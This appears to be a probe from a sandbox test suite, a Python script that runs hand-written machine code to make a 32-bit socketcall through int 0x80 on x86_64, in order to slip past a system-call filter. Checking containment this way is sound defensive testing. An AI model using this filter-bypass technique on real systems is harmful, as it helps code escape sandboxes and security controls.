"""
tries: to pass the filter of system calls by those of 32 bits
layers: both
stopped: a cell has
"""

import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    # mov eax, 102 (socketcall); mov ebx, 1 (socket); int 0x80; ret
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    code.write(b"\xb8\x66\x00\x00\x00\xbb\x01\x00\x00\x00\xcd\x80\xc3")
    if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))() >= 0:
        won()
